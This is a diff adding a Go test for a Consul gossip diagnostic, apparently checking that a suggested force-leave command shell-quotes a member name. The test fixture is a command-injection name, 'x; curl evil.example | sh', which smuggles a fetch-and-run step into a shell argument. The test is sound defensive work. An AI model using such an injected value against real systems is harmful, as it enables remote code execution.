@@ -369,3 +369,16 @@ func TestGossipForceLeaveRecheck(t *testing.T) {
 		t.Error("a re-check with nothing read again passed")
 	}
 }
+
+// The force-leave a finding suggests is pasted into a shell: a member name
+// a shell would read as more than a word (a name any member may give
+// itself) is quoted, and stays the command's one argument.
+func TestGossipForceLeaveCommandQuotesTheName(t *testing.T) {
+	name := "x; curl evil.example | sh"
+	s := gossipCluster(member(name, "10.244.1.50", snapshot.MemberFailed), member("new", "10.244.1.50", snapshot.MemberAlive))
+	s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", t0))
+	fs := (&GossipGhostMember{}).Evaluate(s)
+	if len(fs) != 1 || fs[0].Evidence["force_leave"] != "consul force-leave -prune 'x; curl evil.example | sh'" {
+		t.Errorf("findings %+v", fs)
+	}
+}
